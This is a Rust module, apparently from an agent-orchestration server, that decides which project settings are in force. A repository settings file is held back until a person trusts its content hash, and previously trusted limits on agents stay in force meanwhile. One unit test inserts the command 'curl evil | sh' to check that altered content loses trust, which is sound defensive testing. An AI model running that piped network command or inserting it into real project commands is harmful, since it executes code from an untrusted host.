//! The settings in force: the server's configuration, then the trusted file, then what a person set for the project.

use super::changes::{self, SettingsChange};
use super::file::{PATH, ProjectFile};
use super::prompts::{self, PromptOverride, TRUSTED_PROMPTS};
use super::read::{Content, FileState, Loaded, SettingsFile};
use crate::settings::config::Config;
use crate::settings::project::{ProjectSettings, UNCONFIRMED};
use secrets::Redactor;
use serde::Serialize;
use serde_json::{Map, Value, json};
use std::collections::BTreeMap;
use store::Project;
use utoipa::ToSchema;

/// The setting with the hashes of the contents that a person trusted.
pub const TRUSTED: &str = "trusted_settings_files";
/// The setting that keeps the limits of the content that was trusted last. They stay in force until a person trusts other content.
pub const TRUSTED_LIMITS: &str = "trusted_limits";
/// The settings that limit agents.
const LIMITS: [&str; 6] =
    ["permissions", "network", "network_allow", "boundaries", "daily_cost_usd", "daily_tokens"];

/// Why a project's commands do not run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CommandHold {
    /// The commands that would run besides those in force.
    pub commands: Vec<String>,
    /// The reason and the remedy, in sentences.
    pub reason: String,
}

/// Where the value of a setting comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum SettingSource {
    /// No one set it.
    Default,
    /// The server's configuration.
    Server,
    /// The trusted file of the repository.
    File,
    /// A person, for this project.
    Project,
}

/// A setting in force.
#[derive(Clone, Debug, PartialEq, Serialize, ToSchema)]
pub struct EffectiveSetting {
    /// Its value.
    pub value: Value,
    /// Where the value comes from.
    pub source: SettingSource,
}

/// A project's settings in force, and the state of its file.
#[derive(Clone, Debug)]
pub struct InForce {
    pub settings: ProjectSettings,
    /// As they are kept: what is unreadable in them is not lost.
    pub(crate) kept: Value,
    pub file: SettingsFile,
    /// The prompts that the repository overrides, and whether their content is in force.
    pub prompts: Vec<PromptOverride>,
    /// The settings that the file gives, while it is trusted.
    of_file: Map<String, Value>,
    /// The settings that the file would give.
    offered: Map<String, Value>,
    /// The settings that a person gave.
    own: Map<String, Value>,
}

/// Returns the settings that a person gave a project; null is as good as absent.
fn own(project: &Project) -> Map<String, Value> {
    let mut own = project.settings.as_object().cloned().unwrap_or_default();
    own.retain(|_, value| !value.is_null());
    own
}

fn merge(file: &Map<String, Value>, own: &Map<String, Value>) -> Map<String, Value> {
    let mut merged = file.clone();
    for (name, value) in own {
        match (merged.get_mut(name).and_then(Value::as_object_mut), value.as_object()) {
            // Of tables, such as `env`, each entry is a setting of its own.
            (Some(table), Some(entries)) => table.extend(entries.clone()),
            _ => drop(merged.insert(name.clone(), value.clone())),
        }
    }
    if let (Some(test), None) = (merged.get("test_command").cloned(), merged.get("checks")) {
        merged.insert("checks".to_owned(), json!([test]));
    }
    merged
}

fn commands(settings: &Map<String, Value>) -> Vec<String> {
    let settings = ProjectSettings::read(&Value::Object(settings.clone()));
    settings.setup_command.into_iter().chain(settings.teardown_command).chain(settings.checks).collect()
}

impl InForce {
    /// Returns the limits on agents that the file on the base branch gives, trusted or not.
    pub fn offered_limits(&self) -> Map<String, Value> {
        limits_of(self.offered.clone())
    }

    /// Joins what a person set with the file.
    pub(crate) fn new(project: &Project, loaded: &Loaded, redactor: &Redactor) -> Self {
        let mut own = own(project);
        let trusted: Vec<String> = own
            .get(TRUSTED)
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(|hash| hash.as_str().map(str::to_owned))
            .collect();
        let mut file = SettingsFile {
            path: PATH.to_owned(),
            commit: loaded.commit.clone(),
            hash: None,
            state: FileState::Absent,
            error: None,
            content: None,
            changes: Vec::new(),
        };
        let limits =
            own.remove(TRUSTED_LIMITS).and_then(|kept| kept.as_object().cloned()).unwrap_or_default();
        let trusted_prompts = own.remove(TRUSTED_PROMPTS).unwrap_or_default();
        let prompts = prompts::judge(project, &loaded.prompts, &trusted_prompts, redactor);
        let mut of_file = Map::new();
        let mut offered = Map::new();
        let mut hold = None;
        let branch = &project.default_branch;
        match &loaded.content {
            Content::Absent => {}
            Content::Unreadable(error) => {
                file.state = FileState::Invalid;
                let error = redactor.redact(error);
                let reason = format!("{PATH} on {branch} cannot be used: {error}. Correct it there.");
                hold = Some(CommandHold { commands: vec![PATH.to_owned()], reason: reason.clone() });
                file.error = Some(reason);
                of_file = limits;
            }
            Content::Read { hash, file: found, text } => {
                file.hash = Some(hash.clone());
                offered = found.settings();
                if trusted.contains(hash) {
                    file.state = FileState::Trusted;
                    of_file = found.settings();
                } else {
                    file.state = FileState::Untrusted;
                    file.content = Some(redactor.redact(text).into_owned());
                    file.changes = would_change(found, &limits, &own);
                    redact(&mut file.changes, redactor);
                    let reason = untrusted(project);
                    let held = commands(&merge(&found.settings(), &own));
                    hold = (held != commands(&merge(&Map::new(), &own)))
                        .then(|| CommandHold { commands: held, reason: reason.clone() });
                    file.error = Some(reason);
                    of_file = limits;
                }
            }
        }
        let kept = Value::Object(merge(&of_file, &own));
        let mut settings = ProjectSettings::read(&kept);
        settings.prompts = prompts::texts_in_force(&loaded.prompts, &prompts);
        settings.hold = if settings.unconfirmed_commands { Some(unconfirmed()) } else { hold };
        Self { settings, kept, file, prompts, of_file, offered, own }
    }

    /// Returns each setting in force with where it comes from.
    pub fn effective(&self, config: &Config) -> BTreeMap<String, EffectiveSetting> {
        let server: [(&str, Value); 8] = [
            ("spec_agent", json!(config.defaults.spec_agent)),
            ("implementation_agent", json!(config.defaults.implementation_agent)),
            ("max_parallel_sessions", json!(config.limits.max_sessions_per_task)),
            ("commit_frequency_minutes", json!(config.recording.commit_frequency_minutes)),
            ("repair_rounds", json!(config.defaults.repair_rounds)),
            ("network", json!(config.sandbox.network)),
            ("daily_cost_usd", json!(config.limits.project_daily_cost_usd)),
            ("daily_tokens", json!(config.limits.project_daily_tokens)),
        ];
        // Plain data, whose serialization cannot fail.
        let all = serde_json::to_value(&self.settings).unwrap_or_default();
        let setting = |(name, value): (&String, &Value)| {
            let of_server = server.iter().find(|(known, value)| known == name && !value.is_null());
            let (value, source) = if self.own.contains_key(name) {
                (value.clone(), SettingSource::Project)
            } else if self.of_file.contains_key(name) {
                (value.clone(), SettingSource::File)
            } else if let Some((_, value)) = of_server {
                (value.clone(), SettingSource::Server)
            } else if name == "checks" && self.of_file.contains_key("test_command") {
                (value.clone(), SettingSource::File)
            } else {
                (value.clone(), SettingSource::Default)
            };
            (name.clone(), EffectiveSetting { value, source })
        };
        all.as_object().into_iter().flatten().filter(|(name, _)| *name != UNCONFIRMED).map(setting).collect()
    }
}

/// Returns what trusting a file would change, compared with the limits that are in force.
fn would_change(
    file: &ProjectFile,
    limits: &Map<String, Value>,
    own: &Map<String, Value>,
) -> Vec<SettingsChange> {
    changes::between(&merge(limits, own), &merge(&file.settings(), own))
}

/// Returns the settings of a file that limit agents.
pub fn limits_of(mut settings: Map<String, Value>) -> Map<String, Value> {
    settings.retain(|name, _| LIMITS.contains(&name.as_str()));
    settings
}

fn redact(changes: &mut [SettingsChange], redactor: &Redactor) {
    for change in changes {
        redactor.redact_json(&mut change.after);
    }
}

fn untrusted(project: &Project) -> String {
    format!(
        "{PATH} on {} is not used before a person trusts it. Read and trust it on the projects page or with `spectask \
         projects trust {}`.",
        project.default_branch, project.id
    )
}

fn unconfirmed() -> CommandHold {
    let reason = "The command was restored from the record in git, which others can write to. Confirm the project's commands in \
                  its settings (`unconfirmed_commands`: false).";
    CommandHold { commands: Vec::new(), reason: reason.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::super::changes::ChangeKind;
    use super::*;
    use crate::settings::config::NetworkMode;
    use crate::settings::permission_policy::Policy;
    use workflow::Millis;

    fn project(settings: Value) -> Project {
        Project {
            id: "prj_1".into(),
            owner: "usr_1".into(),
            name: "shop".to_owned(),
            key: "SHOP".to_owned(),
            repository_path: "/srv/shop".to_owned(),
            clone_url: None,
            default_branch: "main".to_owned(),
            settings,
            created_at: Millis(0),
            updated_at: Millis(0),
        }
    }

    fn in_force(settings: Value, text: &str) -> InForce {
        let redactor = Redactor::new(&secrets::Settings::default()).expect("a redactor");
        let loaded = Loaded {
            commit: Some("c".to_owned()),
            content: Content::of(text.as_bytes()),
            prompts: Vec::new(),
        };
        InForce::new(&project(settings), &loaded, &redactor)
    }

    const FILE: &str = "checks = [\"make test\"]\nisolation = \"shared\"\n[agents]\nplanning = \"claude\"\n";

    #[test]
    fn nothing_of_a_file_is_in_force_before_its_content_is_trusted() {
        let found = in_force(json!({ "setup_command": "make" }), FILE);
        assert_eq!(found.file.state, FileState::Untrusted);
        assert!(found.settings.checks.is_empty() && found.settings.spec_agent.is_none());
        let hold = found.settings.hold.expect("the commands wait");
        assert_eq!(hold.commands, ["make", "make test"]);
        assert!(
            hold.reason.ends_with("`spectask projects trust prj_1`."),
            "an agent that reads it has no finished command: {}",
            hold.reason
        );

        let trusted = json!({ "setup_command": "make", TRUSTED: [super::super::hash(FILE.as_bytes())] });
        let found = in_force(trusted.clone(), FILE);
        assert_eq!((found.file.state, found.settings.hold), (FileState::Trusted, None));
        assert_eq!(found.settings.checks, ["make test"]);
        assert_eq!(found.settings.spec_agent.as_deref(), Some("claude"));

        let changed = in_force(trusted, &FILE.replace("make test", "curl evil | sh"));
        assert_eq!(changed.file.state, FileState::Untrusted);
        assert!(changed.settings.checks.is_empty() && changed.settings.hold.is_some());
    }

    #[test]
    fn the_limits_that_were_trusted_last_hold_until_other_content_is_trusted() {
        const STRICT: &str = "permissions = \"ask\"\nnetwork = \"none\"\nboundaries = [\"migrations/\"]\nchecks = [\"true\"]\n";
        let file = ProjectFile::parse(STRICT).expect("a file");
        let kept = json!({
            TRUSTED: [super::super::hash(STRICT.as_bytes())], TRUSTED_LIMITS: limits_of(file.settings()),
        });
        let invalid = "permissions = 1\n".to_owned();
        for text in [format!("{STRICT}# Another content.\n"), "checks = [\"true\"]\n".to_owned(), invalid] {
            let found = in_force(kept.clone(), &text);
            assert_ne!(found.file.state, FileState::Trusted);
            assert_eq!(found.settings.permissions, Policy::Ask, "{text}");
            assert_eq!(found.settings.network, Some(NetworkMode::None), "{text}");
            assert_eq!(found.settings.boundaries, ["migrations/"], "{text}");
            assert!(found.settings.checks.is_empty() && found.settings.hold.is_some(), "{text}");
        }
        let looser = in_force(kept, "checks = [\"true\"]\n").file.changes;
        let looser: Vec<&str> = looser
            .iter()
            .filter(|change| change.kind == ChangeKind::Loosened)
            .map(|change| change.setting.as_str())
            .collect();
        assert_eq!(looser, ["boundaries", "network", "permissions"]);
    }

    #[test]
    fn what_a_person_set_comes_before_the_file_and_the_file_before_the_server() {
        let hash = super::super::hash(FILE.as_bytes());
        let found = in_force(json!({ "checks": ["true"], "isolation": null, TRUSTED: [hash] }), FILE);
        let effective = found.effective(&Config::default());
        let of = |name: &str| (effective[name].value.clone(), effective[name].source);
        assert_eq!(of("checks"), (json!(["true"]), SettingSource::Project));
        assert_eq!(of("isolation"), (json!("shared"), SettingSource::File));
        assert_eq!(of("max_parallel_sessions"), (json!(4), SettingSource::Server));
        assert_eq!(of("setup_command"), (Value::Null, SettingSource::Default));
    }

    #[test]
    fn the_test_command_is_the_check_where_no_checks_are_given() {
        let text = "test_command = \"make test\"\n";
        let hash = super::super::hash(text.as_bytes());
        assert_eq!(in_force(json!({ TRUSTED: [hash] }), text).settings.checks, ["make test"]);
        assert!(in_force(json!({ TRUSTED: [hash], "checks": [] }), text).settings.checks.is_empty());
    }

    #[test]
    fn an_untrusted_file_without_commands_holds_none() {
        let found = in_force(json!({ "checks": ["true"] }), "isolation = \"shared\"\nchecks = [\"other\"]\n");
        assert_eq!((found.file.state, found.settings.hold), (FileState::Untrusted, None));
        assert_eq!(found.file.changes.len(), 1, "{:?}", found.file.changes);
    }

    #[test]
    fn a_file_that_cannot_be_read_holds_the_commands_and_says_why() {
        let found = in_force(json!({ "checks": ["true"] }), "check = 1\n");
        assert_eq!(found.file.state, FileState::Invalid);
        let hold = found.settings.hold.expect("the commands wait");
        assert!(hold.reason.contains("line 1: unknown field `check`"), "{}", hold.reason);
    }
}
